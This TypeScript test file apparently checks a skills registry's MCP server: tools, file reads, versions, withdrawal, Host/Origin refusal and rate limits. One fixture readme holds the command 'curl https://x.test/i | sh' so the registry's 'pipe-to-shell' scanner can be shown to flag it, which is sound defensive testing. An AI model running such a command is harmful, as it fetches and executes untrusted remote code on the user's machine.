import { SkillsClient } from '@modelcontextprotocol/client/ext/skills'
import { describe, expect, test } from 'vitest'
import { file, publishBundle, replaceFiles } from '../support/bundles.ts'
import {
  connectMcp,
  linkOf,
  mcpClients,
  sendMcp,
  statusOfMessages,
  textOf,
  toolCall,
} from '../support/mcp.ts'
import { exchange } from '../support/raw-http.ts'
import { startTestServer } from '../support/server.ts'
import { publish } from '../support/skills.ts'
import { flushFetches } from '../support/voters.ts'

const server = await startTestServer()
const author = await server.agent('author')
const reader = await server.agent('reader')
const readme = '---\nname: Tide tables\ndescription: Reads tide tables.\n---\n# Tides\n'
const tides = await publishBundle(
  author,
  [file('data/ports.csv', 'Brest\n'), file('logo.png', new Uint8Array([137, 0, 255]))],
  { slug: 'tide-tables', readme, description: 'Reads tide tables of harbours.' },
)
const bread = await publish(reader, {
  slug: 'bread',
  description: 'Bakes sourdough bread.',
  readme: '# Bread\n',
})
const { owner, name: repo } = tides.repo
const addresses = { service: '/mcp', owner: `/${owner}/mcp`, repository: `/${owner}/${repo}/mcp` }
const at = (path: string) => new URL(path, server.url)
const readTools = ['resolve_skills', 'search_skills', 'get_skill', 'read_skill_file']
const task = 'read the tide tables of a harbour'

describe.each(mcpClients)('the official client %s', (name) => {
  test.each(Object.entries(addresses))('calls every tool at: %s', async (_, path) => {
    const client = await connectMcp(at(path), name, reader.apiKey)
    expect(client.getInstructions()).toContain('resolve_skills')
    const { tools } = await client.listTools()
    const writeTools = ['give_feedback', 'publish_skill']
    expect(tools.map((tool) => tool.name)).toEqual([...readTools, ...writeTools])
    for (const { annotations, outputSchema } of tools) {
      expect(Object.values(annotations ?? {})).toHaveLength(5)
      expect(outputSchema).toBeDefined()
    }
    const use = (tool: string, args: Record<string, unknown>) =>
      client.callTool({ name: tool, arguments: args })
    const resolved = await use('resolve_skills', { task })
    const direct = await server.client.registry.skills.resolve({ query: { task } })
    expect(resolved.structuredContent).toMatchObject({ matched: 1, threshold: direct.threshold })
    expect(resolved.structuredContent).toHaveProperty(
      'data.0.confidence',
      direct.data[0]?.confidence,
    )
    expect(textOf(resolved)).toContain('A stranger wrote this skill.')
    const found = await use('search_skills', { q: 'tide', limit: 5 })
    expect(found.structuredContent).toMatchObject({ total: 1, data: [{ id: tides.id }] })
    const { id } = tides
    const got = await use('get_skill', { id })
    expect(got.structuredContent).toMatchObject({ data: { id, readme } })
    expect(textOf(got)).toContain('# Tides')
    const content = await use('read_skill_file', { id, path: 'data/ports.csv' })
    expect(content.structuredContent).toMatchObject({ text: 'Brest\n', omittedBytes: 0 })
    expect(textOf(content)).toMatch(/Brest\n$/)
    const logo = await use('read_skill_file', { id, path: 'logo.png' })
    expect(logo.structuredContent).toMatchObject({ version: 1, size: 3, omittedBytes: 3 })
    expect(linkOf(logo)).toMatch(/\/files\/logo\.png\?version=1$/)
    const judged = await use('give_feedback', { id, task, helpful: true })
    expect(judged.structuredContent).toMatchObject({ recorded: true })
    const slug = `${_}-${name.replaceAll('.', '-')}`
    const published = await use('publish_skill', { name: slug, slug, readme: '# A quilt\n' })
    expect(published.structuredContent).toMatchObject({ data: { slug, owner: { id: reader.id } } })
  })
})

describe.each(['2026-07-28', 'auto'] as const)("the skills extension's client %s", (name) => {
  test.each(Object.entries(addresses))('verifies every file at: %s', async (_, path) => {
    const client = await connectMcp(at(path), name)
    const skills = new SkillsClient(client)
    const listed = (await skills.list()).skills
    const isService = path === '/mcp'
    expect(listed.map(({ frontmatter }) => frontmatter.name)).toEqual(
      isService ? ['skillpass', 'skillpass-publish', 'skillpass-feedback'] : ['tide-tables'],
    )
    const resolved = await client.callTool({ name: 'resolve_skills', arguments: { task } })
    const link = resolved.content.find((block) => block.type === 'resource_link')
    const { skill } = await skills.get(link?.uri ?? '')
    expect(skill.frontmatter).toEqual({ name: 'tide-tables', description: 'Reads tide tables.' })
    for (const one of [...listed, skill]) {
      const { resources } = one
      if (resources === 'dynamic') throw new Error('every skill has a manifest')
      for (const { uri } of resources)
        expect(await skills.read(one, uri)).toMatchObject({ verified: true })
    }
    expect(skill.resources).toHaveLength(3)
  })
})

describe('an MCP server of the registry', () => {
  const resultIn = (text: string) => JSON.parse(text.replace(/^[\s\S]*?data: /, '')).result

  test('returns nothing and says so if no skill reaches the threshold', async () => {
    const client = await connectMcp(at('/mcp'), 'auto')
    const result = await client.callTool({
      name: 'resolve_skills',
      arguments: { task: 'repair a submarine cable' },
    })
    expect(result.structuredContent).toMatchObject({ data: [], matched: 0 })
    expect(textOf(result)).toMatch(/^No skill reaches the confidence 0.3/)
  })

  test('at the address of an owner resolves and searches only the skills of that owner', async () => {
    const client = await connectMcp(at(addresses.owner), 'auto')
    const args = { task: 'bake sourdough bread', threshold: 0 }
    const resolved = await client.callTool({ name: 'resolve_skills', arguments: args })
    expect(JSON.stringify(resolved)).not.toContain(bread.id)
    const q = { q: 'bread', owner: bread.repo.owner }
    const found = await client.callTool({ name: 'search_skills', arguments: q })
    expect(found.structuredContent).toMatchObject({ total: 0 })
  })

  test('returns errors of the contract as the text of a failed call', async () => {
    const client = await connectMcp(at('/mcp'), 'auto')
    const missing = { id: '00000000-0000-4000-8000-000000000000' }
    for (const [name, args, error] of [
      ['get_skill', missing, { code: 'NOT_FOUND' }],
      ['read_skill_file', { id: tides.id, path: 'no.md' }, { code: 'NOT_FOUND' }],
      ['resolve_skills', {}, { code: 'VALIDATION_ERROR', message: 'task is required' }],
      ['search_skills', { limit: 51 }, { code: 'VALIDATION_ERROR' }],
    ] as const) {
      const result = await client.callTool({ name, arguments: args })
      expect(result.isError).toBe(true)
      expect(JSON.parse(textOf(result))).toMatchObject({ error })
    }
  })

  test('offers tools that need an API key only to callers with a key, in a private list', async () => {
    const client = await connectMcp(at('/mcp'), '2026-07-28')
    const list = await client.listTools()
    expect(list.tools.map(({ name }) => name)).toEqual(readTools)
    expect(list).toMatchObject({ cacheScope: 'public' })
    await expect(client.callTool({ name: 'publish_skill' })).rejects.toThrow(/Unknown tool/)
    const withKey = await connectMcp(at('/mcp'), '2026-07-28', reader.apiKey)
    expect(await withKey.listTools()).toMatchObject({ cacheScope: 'private' })
  })

  test('keeps serving the files of a version after the next publication', async () => {
    const skill = await publish(author, { slug: 'clocks', readme: '# One\n' })
    const client = await connectMcp(at('/mcp'), 'auto')
    const skills = new SkillsClient(client)
    const uri = `skill://${skill.repo.owner}/${skill.repo.name}/1/clocks/SKILL.md`
    const { skill: first } = await skills.get(uri)
    const body = { readme: '# Two\n' }
    await author.client.registry.skills.update({ params: { id: skill.id }, body })
    expect((await skills.read(first)).text).toContain('# One')
    const { skill: second } = await skills.get(uri.replace('/1/', '/2/'))
    expect((await skills.read(second)).text).toContain('# Two')
    for (const gone of ['/3/', '/x/', '/1/no/']) {
      await expect(skills.get(uri.replace('/1/', gone))).rejects.toThrow(/No skill is served/)
    }
  })

  test.each(Object.entries({ 'control characters': '\u0001', emoji: '🌊', quotes: '"\\' }))(
    'read_skill_file returns the first 256 KiB of 4 MiB of %s once, and a link to all bytes',
    async (_, unit) => {
      const bytes = Buffer.from(`\u0002${unit.repeat(1024 ** 2 - 1)}`)
      const { id } = await publishBundle(author, [file('long.txt', bytes)])
      const call = toolCall('read_skill_file', { id, path: 'long.txt' })
      const answer = await (await sendMcp(at('/mcp'), call)).text()
      expect(answer.length).toBeLessThan(256 * 1024 * 6 + 4096)
      expect(answer.split('\\u0002')).toHaveLength(2)
      const result = resultIn(answer)
      const { omittedBytes, size, url } = result.structuredContent
      const shown = bytes.subarray(0, size - omittedBytes).toString()
      expect(textOf(result)).toContain(
        `${omittedBytes} of ${size} bytes are only at ${url}\n\n${shown}`,
      )
      expect(size - omittedBytes).toBeGreaterThan(256 * 1024 - 4)
      expect(linkOf(result)).toBe(url)
      const { pathname, search } = new URL(url)
      const whole = await server.http(pathname + search)
      expect(Buffer.from(await whole.arrayBuffer()).equals(bytes)).toBe(true)
    },
  )

  test('every way of reading a skill names its verdict and findings, also of an earlier version', async () => {
    const finding = { rule: 'pipe-to-shell', file: null, line: 3 }
    const judged = { verdict: 'warning', warnings: [finding] }
    const slug = 'suspect'
    const skill = await publish(author, {
      slug,
      readme: '# Install\n\ncurl https://x.test/i | sh\n',
    })
    await replaceFiles(author, skill, [file('notes.md', '# Notes\n')], { readme: '# Install\n' })
    const client = await connectMcp(at(addresses.repository), 'auto')
    const skills = new SkillsClient(client)
    const uriOf = (version: number, path = 'SKILL.md') =>
      `skill://${owner}/${repo}/${version}/${slug}/${path}`
    const read = async (uri: string) => (await client.readResource({ uri })).contents[0]?._meta
    const clean = { verdict: 'clean', warnings: [] }
    const listed = (await skills.list()).skills
    expect(listed.find(({ uri }) => uri === uriOf(2))?._meta).toEqual(clean)
    expect((await skills.get(uriOf(2))).skill._meta).toEqual(clean)
    expect(await read(uriOf(2, 'notes.md'))).toEqual(clean)
    expect((await skills.get(uriOf(1))).skill._meta).toMatchObject(judged)
    expect(await read(uriOf(1))).toMatchObject(judged)
    const call = { name: 'read_skill_file', arguments: { id: skill.id, version: 1 } }
    const file1 = await client.callTool(call)
    expect(file1.structuredContent).toMatchObject(judged)
    expect(textOf(file1)).toContain('verdict warning')
    await author.client.registry.skills.update({ params: skill, body: { readme: skill.readme } })
    expect((await skills.get(uriOf(3))).skill._meta).toMatchObject(judged)
    const found = await client.callTool({ name: 'search_skills', arguments: { q: slug } })
    expect(found.content).toContainEqual(expect.objectContaining({ _meta: judged, name: slug }))
    const base = `/${owner}/${repo}/${slug}`
    const installed = `${base}/.well-known/skills/${slug}/SKILL.md`
    for (const path of ['?format=md', '/files/SKILL.md', '/archive.zip', '/archive.tar.gz']) {
      const { headers } = await server.http(`${base}${path}`)
      expect(headers.get('skillpass-verdict'), path).toBe('warning;rules="pipe-to-shell"')
    }
    for (const path of [`${base}/files/SKILL.md?version=1`, `${installed}?version=1`, installed])
      expect((await server.http(path)).headers.get('skillpass-verdict')).toMatch(/^warning/)
    await server.moderate('skill hide', skill.id)
    await expect(skills.get(uriOf(3))).rejects.toThrow(/No skill is served/)
    await expect(client.readResource({ uri: uriOf(3) })).rejects.toThrow(/not found/i)
    expect((await skills.list()).skills.map(({ uri }) => uri)).not.toContain(uriOf(3))
  })

  test('says why a version is withdrawn or deprecated, and serves none that is withdrawn for security', async () => {
    const skill = await publish(author, { slug: 'outdated', readme: '# Old\n' })
    const params = { id: skill.id, version: 1 }
    const { skills, versions } = author.client.registry
    const deprecated = { message: 'Too old.', use: 'a/b/c' }
    await versions.deprecate({ params, body: deprecated })
    const client = await connectMcp(at('/mcp'), 'auto')
    const get = { name: 'get_skill', arguments: { id: skill.id } }
    expect(textOf(await client.callTool(get))).toContain('Deprecated: Too old. Use a/b/c instead.')
    await skills.update({ params, body: { readme: '# New\n' } })
    await versions.withdraw({ params, body: { reason: 'It is wrong.' } })
    const call = { name: 'read_skill_file', arguments: params }
    const read = await client.callTool(call)
    expect(read.structuredContent).toMatchObject({
      deprecated,
      withdrawn: { reason: 'It is wrong.', security: false },
    })
    expect(textOf(read)).toContain('This version is withdrawn: It is wrong.')
    await versions.restore({ params })
    await versions.withdraw({ params, body: { reason: 'A secret.', security: true } })
    expect(textOf(await client.callTool(call))).toContain('A secret.')
    const { owner, name } = skill.repo
    const uri = `skill://${owner}/${name}/1/${skill.slug}/SKILL.md`
    await expect(new SkillsClient(client).get(uri)).rejects.toThrow(/No skill is served/)
  })

  test('lists the skills of an owner by cursor, and rejects a cursor that it did not return', async () => {
    const many = await server.agent('many')
    for (let i = 0; i < 21; i++) await publish(many, { slug: `lamp-${i}` })
    const client = await connectMcp(at(`/${many.username}/mcp`), 'auto')
    const skills = new SkillsClient(client)
    const page = await skills.list({ cursor: '1' })
    expect([page.skills.length, page.nextCursor]).toEqual([20, '2'])
    expect((await skills.list()).skills).toHaveLength(21)
    await expect(skills.list({ cursor: 'x' })).rejects.toThrow(/cursor must be/)
  })

  test('counts a read of a skill as a fetch', async () => {
    const skill = await publish(author, { slug: 'counted' })
    const client = await connectMcp(at('/mcp'), 'auto', reader.apiKey)
    await client.callTool({ name: 'get_skill', arguments: { id: skill.id } })
    await flushFetches(server)
    const { data } = await server.client.registry.skills.get({ params: { id: skill.id } })
    expect(data.fetchCount).toBe(1)
  })

  test.each(Object.values(addresses))('refuses malformed messages at %s', async (path) => {
    const url = at(path)
    const bodies: Record<number, string> = {}
    for (const [status, message, headers] of statusOfMessages) {
      const response = await sendMcp(url, message, headers)
      expect(response.status).toBe(status)
      bodies[status] = await response.text()
    }
    expect(bodies[406]).toContain('Not Acceptable')
    expect(bodies[413]).toContain('"code":"PAYLOAD_TOO_LARGE"')
    const batch = await fetch(url, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '[]',
    })
    expect(batch.status).toBe(400)
    const wrongKey = await sendMcp(url, { method: 'tools/list' }, { authorization: 'Bearer skp_x' })
    expect([wrongKey.status, await wrongKey.json()]).toMatchObject([
      401,
      { error: { code: 'UNAUTHORIZED' } },
    ])
    const stream = await fetch(url, { headers: { accept: 'text/event-stream' } })
    expect([stream.status, stream.headers.get('allow')]).toEqual([405, 'OPTIONS, POST'])
  })

  test.each(Object.values(addresses))('a foreign Host or Origin is refused: %s', async (path) => {
    const { hostname, port } = new URL(server.url)
    const list = { jsonrpc: '2.0', id: 1, method: 'tools/list' }
    const send = (host: string, origin = '') => {
      const body = JSON.stringify(list)
      const head = `POST ${path} HTTP/1.1\r\nHost: ${host}\r\n${origin}Content-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`
      return exchange(server.url, [head + body])
    }
    const own = `${hostname}:${port}`
    expect((await send('rebound.example:3000')).first.status).toBe(403)
    expect((await send('127.0.0.2:3000')).first.status).toBe(403)
    expect((await send(own, 'Origin: https://rebound.example\r\n')).first.status).toBe(403)
    expect((await send(own, 'Origin: null\r\n')).first.status).toBe(403)
    expect((await send(own, 'Origin: http://localhost:6274\r\n')).first.status).toBe(200)
    expect((await send('skillpass.test')).first.status).toBe(200)
  })

  test('applies the rate limits of the contract to tools and messages', async () => {
    const env = { RATE_LIMIT_READS_PER_MINUTE: '2' }
    const limited = await startTestServer({ env })
    const client = await connectMcp(new URL('/mcp', limited.url), 'auto')
    const args = { name: 'resolve_skills', arguments: { task } }
    expect((await client.callTool(args)).isError).toBeUndefined()
    await limited.client.registry.skills.resolve({ query: { task } })
    const refused = await client.callTool(args)
    expect(JSON.parse(textOf(refused))).toMatchObject({ error: { code: 'RATE_LIMITED' } })
    const url = new URL('/mcp', limited.url)
    const raw = await sendMcp(url, toolCall('resolve_skills', { task }))
    expect(raw.headers.get('ratelimit')).toContain('"read";r=0')
    expect(resultIn(await raw.text()).isError).toBe(true)
  })
})
